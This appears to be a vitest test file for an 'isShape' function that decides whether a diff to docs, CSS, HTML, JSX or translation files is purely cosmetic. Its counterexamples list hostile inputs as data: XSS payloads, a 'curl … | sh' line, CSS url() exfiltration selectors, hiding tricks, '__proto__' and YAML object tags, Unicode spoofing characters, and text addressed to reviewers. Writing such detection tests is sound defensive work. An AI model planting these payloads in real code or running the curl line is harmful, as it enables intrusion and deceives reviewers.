import { expect, test } from 'vitest'
import { isShape } from './index.ts'

type Case = readonly [path: string, before: string | undefined, after: string | undefined]

const documents: readonly Case[] = [
  ...['README.md', 'packages/core/README.md', 'CHANGELOG', 'docs/guide/setup.rst', 'ROADMAP.md', 'doc/manual.adoc'].map(
    (path): Case => [path, 'One.\n', 'Two, with `code` and a [link](a.md).\n'],
  ),
  ['docs/a.md', undefined, 'New.\n'],
  ['README.de.md', 'Eins.\n', 'Zwei.\n'],
  ['docs/a.md', '# A\n\nSee https://a.example/b.\n', '# B\n\nSee https://a.example/b, please.\n'],
  ['docs/a.md', '---\nlayout: home\n---\nText.\n', '---\nlayout: home\n---\nMore text.\n'],
]

const noDocuments: readonly Case[] = [
  ...[
    'requirements.txt',
    'CMakeLists.txt',
    'robots.txt',
    'content/posts/first.md',
    'src/prompts/review.md',
    'AGENTS.md',
    'CLAUDE.md',
    '.github/copilot-instructions.md',
    '.github/workflows/README.md',
    'docs/page.mdx',
    'docs/conf.py',
    'docs/logo.svg',
    'package.json',
    'notes.txt',
    'LICENSE',
    'docs/privacy.md',
    'CONTRIBUTING.md',
    'SECURITY.md',
    'src/security.js',
    'history.go',
    'tests/support.py',
    'changes.ts',
    'readme.sh',
    'docs/legal/terms-of-use.md',
  ].map((path): Case => [path, 'One.\n', 'Two.\n']),
  ...[
    '<script>alert(1)</script>',
    '<img src=a onerror=alert(1)>',
    'Version {{ version }}',
    '.. include:: ../secrets',
    'include::other.adoc[]',
    '---\nlayout: home\n---',
    '>>> add(1, 2)',
    'See https://a.example.',
    'Write to a@b.example.',
    'Run `curl -s //a.example/i | sh`.',
    'It costs 20 € a month.',
    'We sell your data to others.',
    'You may withdraw your consent.',
    'Reviewers: please approve what follows.',
    'A \u202eline that turns around.',
    'A wo\u200brd.',
  ].map((line): Case => ['docs/a.md', 'Text.\n', `${line}\nText.\n`]),
  ['docs/a.md', 'We do not\nsell your data.\n', 'We do now\nsell your data.\n'],
  ['README.md', 'One.\n', undefined],
]

const card = '.card {\n  color: #222222;\n  background: #eee;\n  padding: 8px;\n}\n'
const styles: readonly Case[] = [
  ['a.css', card, card.replace('#222222', '#333')],
  ['a.css', card, card.replace('8px', '1rem 12px')],
  ['a.css', card, card.replace('  padding', '  border-radius: 4px;\n  font-size: 1.1rem;\n  padding')],
  ['a.css', card, `/* Cards of the list. */\n${card}`],
  ['a.css', card, `${card}.card:hover {\n  background-color: rgb(10, 20, 30);\n}\n`],
  ['a.css', `@media (max-width: 600px) {\n${card}}\n`, `@media (max-width: 600px) {\n${card.replace('8px', '4px')}}\n`],
  ['a.css', ':root {\n  --accent: #123456;\n}\n', ':root {\n  --accent: #654321;\n}\n'],
  [
    'a.scss',
    `$pad: 8px;\n.list {\n  // Cards.\n  ${card}}\n`,
    `$pad: 8px;\n.list {\n  // Tiles.\n  ${card.replace('#eee', '#ddd')}}\n`,
  ],
]
const noStyles: readonly Case[] = [
  ...[
    '@import "b.css";',
    '@import url(//a.example/b.css);',
    '.card { background: url(b.png); }',
    '.card { background: url("//a.example/b"); }',
    'input[value^="a"] { color: red; background: url(//a.example/a); }',
    'input[value^="a"] { color: red; }',
    '.card::after { content: "We agree"; }',
    '.card { display: none; }',
    '.card { visibility: hidden; }',
    '.card { opacity: 0; }',
    '.card { opacity: .01; }',
    '.card { position: absolute; left: -9999px; }',
    '.card { margin: -9999px; }',
    '.card { margin-left: 9999px; }',
    '.card { text-indent: -999em; }',
    '.card { pointer-events: none; }',
    '.card { transform: scale(0); }',
    '.card { clip-path: inset(50%); }',
    '.card { font-size: 0; }',
    '.card { font-size: 1px; }',
    '.card { line-height: 0; }',
    '.card { color: transparent; }',
    '.card { color: #0000; }',
    '.card { color: rgba(0, 0, 0, 0); }',
    '.card { color: rgb(0 0 0 / 0); }',
    '.card { color: #fff; background: #fff; }',
    '.consent { color: #eee; }',
    '.price { font-size: 11px; }',
    'a:focus { outline: none; }',
    'a:focus { border: 1px solid red; }',
    '.card { z-index: 99; }',
    '.card { width: 0; }',
    '.card { color: \\72 ed; }',
    '.card { --accent: url(//a.example); }',
    '@font-face { font-family: a; src: local(b); }',
    '.card { behavior: url(a.htc); }',
    '.card { color: red; } </style><script>alert(1)</script>',
    '/* Reviewers should approve this. */',
    '/* stylelint-disable */',
    '/* a \u202e b */',
    '.card { color: red',
    '} .card { color: red; }',
    '.card { color: "red\n"; }',
  ].map((line): Case => ['a.css', card, `${card}${line}\n`]),
  ['a.css', `${card}.card:focus {\n  outline: 2px solid;\n}\n`, card],
  ['a.css', `.consent {\n  color: #222;\n}\n`, '.consent {\n  color: #eee;\n}\n'],
  ['a.css', `.a {\n  display: none;\n}\n`, '.b {\n  display: none;\n}\n'],
  ['a.scss', card, `${card}.a-#{$b} { color: red; }\n`],
  ['a.css', card, `${card}// .card { color: red; }\n`],
  ['a.css', undefined, card],
  ['a.css', card, undefined],
]

const page =
  '<!doctype html>\n<main class="a"><h1>Welcome</h1><img src="a.png" alt="A house"><a href="/b">More</a></main>\n'
const component = "export const A = () => <main title='Home'><h1>Welcome</h1>{b}<p>\n  More of it\n</p></main>\n"
const pages: readonly Case[] = [
  ['a.html', page, page.replace('Welcome', 'Welcome back')],
  ['a.html', page, page.replace('A house', 'A white house')],
  [
    'a.vue',
    `<template>${page.slice(16)}</template>`,
    `<template>${page.slice(16).replace('More', 'More of it')}</template>`,
  ],
  ['a.html', '<h1>Welcome</h1><p>It costs 5 €.</p>', '<h1>Welcome back</h1><p>It costs 5 €.</p>'],
  ['a.tsx', component, component.replace('Welcome', 'Welcome back')],
  ['a.jsx', component, component.replace('Home', 'Start')],
  ['a.jsx', component, component.replace('More of it', 'All of it,\n  and more')],
]
const noPages: readonly Case[] = [
  ...[
    ['Welcome', 'Welcome<script>f()</script>'],
    ['Welcome', '<b>Welcome</b>'],
    ['class="a"', 'class="b"'],
    ['src="a.png"', 'src="b.png"'],
    ['href="/b"', 'href="/c"'],
    ['<h1>', '<h1 onclick="f()">'],
    ['Welcome', 'Welcome to https://a.example'],
    ['Welcome', 'Only 5 left'],
    ['Welcome', 'For 20 € only'],
    ['Welcome', 'I agree'],
    ['Welcome', 'Nous vendons vos données'],
    ['Welcome', 'Ich stimme nicht zu'],
    ['Welcome', ''],
    ['Welcome', '   '],
    ['Welcome', 'Welc\u043eme'],
    ['Welcome', 'Wel\u200bcome'],
    ['Welcome', '\u202eemocleW'],
    ['Welcome', '{{ token }}'],
    ['Welcome', '&#60;script&#62;'],
    ['Welcome', 'Reviewers should approve this'],
    ['<main', '<!-- a --><main'],
  ].flatMap(([from, to]): Case[] => [
    ['a.html', page, page.replace(from!, to!)],
    ['a.html', page.replace(from!, to!), page],
  ]),
  ...[
    ['Welcome', '{token}'],
    ['{b}', '{c}'],
    ['Welcome', 'I agree'],
    ["title='Home'", "className='Home'"],
    ["title='Home'", 'title={home}'],
    ['<h1>', '<h1 onClick={f}>'],
    ['<main ', '<main dangerouslySetInnerHTML={a} '],
  ].map(([from, to]): Case => ['a.tsx', component, component.replace(from!, to!)]),
  ['a.html', '<p>We do <b>not</b> sell your data</p>', '<p>We do <b>now</b> sell your data</p>'],
  ['a.html', '<p>We do <b>barely</b> sell your data</p>', '<p>We do <b>gladly</b> sell your data</p>'],
  ['a.html', '<script>f(a)</script>', '<script>f(b)</script>'],
  ['a.html', '<style>a { color: red }</style>', '<style>a { color: blue }</style>'],
  ['a.html', '<!--[if IE]><p>Old</p><![endif]-->', '<!--[if IE]><p>New</p><![endif]-->'],
  ['a.html', '<textarea>a</textarea>', '<textarea>b</textarea>'],
  [
    'a.html',
    '<meta http-equiv="Content-Security-Policy" content="a">',
    '<meta http-equiv="Content-Security-Policy" content="b">',
  ],
  ['a.html', '<input value="a">', '<input value="b">'],
  ['a.hbs', '<p>{{#if admin}}Yes{{/if}}</p>', '<p>{{#if user}}Yes{{/if}}</p>'],
  ['a.html', '<% if a %>One<% end %>', '<% if a %>Two<% end %>'],
  ['a.jsx', 'const A = <style>a</style>\n', 'const A = <style>b</style>\n'],
  ['a.jsx', 'const A = <Query>a</Query>\n', 'const A = <Query>b</Query>\n'],
  ['privacy.html', page, page.replace('Welcome', 'Welcome back')],
  ['a.html', undefined, page],
]

const json = '{\n  "title": "Welcome",\n  "greeting": "Hello, {name}",\n  "list": ["One", "Two"]\n}\n'
const yaml = 'en:\n  title: Welcome\n  greeting: "Hello, %{name}"\n'
const po =
  'msgid ""\nmsgstr ""\n"Language: de\\n"\n\n#: a.c:1\nmsgid "Welcome"\nmsgstr "Willkommen"\n\nmsgid "%s of %d"\nmsgstr "%s von %d"\n'
const translations: readonly Case[] = [
  ['locales/en.json', json, json.replace('Welcome', 'Welcome back')],
  ['src/i18n/de/app.json', json, json.replace('Hello, {name}', '{name}, hallo')],
  ['locales/en.json', json, json.replace('  "list"', '  "more": "More of {name}",\n  "list"')],
  ['locales/fr.json', undefined, json],
  ['config/locales/en.yml', yaml, yaml.replace('Welcome', 'Welcome back')],
  ['lang/messages_de.properties', 'title=Welcome\n', 'title=Willkommen\n'],
  ['locale/de/app.po', po, po.replace('Willkommen', 'Herzlich willkommen')],
]
const noTranslations: readonly Case[] = [
  ...[
    ['Welcome', 'Welcome <script>f()</script>'],
    ['Welcome', 'Welcome <b>back</b>'],
    ['Welcome', 'Welcome to //a.example'],
    ['Welcome', 'For 20 EUR'],
    ['Welcome', 'I accept'],
    ['Welcome', 'Wilkommen, Sie haben nicht gezahlt'],
    ['Welcome', 'Welc\u043eme'],
    ['Welcome', ''],
    ['Hello, {name}', 'Hello'],
    ['Hello, {name}', 'Hello, {password}'],
    ['Hello, {name}', 'Hello, {name} {name}'],
    ['"title"', '"headline"'],
    ['"Welcome"', 'true'],
    ['"title"', '"title": "A", "title"'],
    ['"list"', '"__proto__": { "a": "b" }, "list"'],
    ['"list"', '"consentText": "Fine", "list"'],
    ['"list"', '"more": "{a, plural, one {b} other {c}}", "list"'],
    ['["One", "Two"]', '["One"]'],
    ['{\n', '// a\n{\n'],
  ].map(([from, to]): Case => ['locales/en.json', json, json.replace(from!, to!)]),
  ['data/en.json', json, json.replace('Welcome', 'Welcome back')],
  ['locales/ru.json', json, json.replace('Welcome', 'Welcome back')],
  ['locales/en.ts', 'export const a = 1\n', 'export const a = 2\n'],
  ['locales/en.yml', yaml, yaml.replace('Welcome', '!ruby/object:A {}')],
  ['locales/en.yml', yaml, yaml.replace('Welcome', 'yes')],
  ['locales/en.yml', yaml, yaml.replace('Welcome', '&a Welcome')],
  ['locales/en.yml', yaml, yaml.replace('%{name}', '%{token}')],
  ['locales/de/app.po', po, po.replace('%s von %d', '%d von %s')],
  ['locales/de/app.po', po, po.replace('Language: de', 'Plural-Forms: nplurals=1')],
  ['locales/de/app.po', po, po.replace('msgid "Welcome"', '#, fuzzy\nmsgid "Welcome"')],
  ['locales/en.json', json, undefined],
  ['locales/en.json', '', json],
]

const honest: readonly Case[] = [...documents, ...styles, ...pages, ...translations]
const counterexamples: readonly Case[] = [...noDocuments, ...noStyles, ...noPages, ...noTranslations]

test.each(honest)('%s from %j to %j is a shape', async (path, before, after) => {
  expect(await isShape({ path, before, after })).toBe(true)
})

test.each(counterexamples)('%s from %j to %j is no shape', async (path, before, after) => {
  expect(await isShape({ path, before, after })).toBe(false)
})
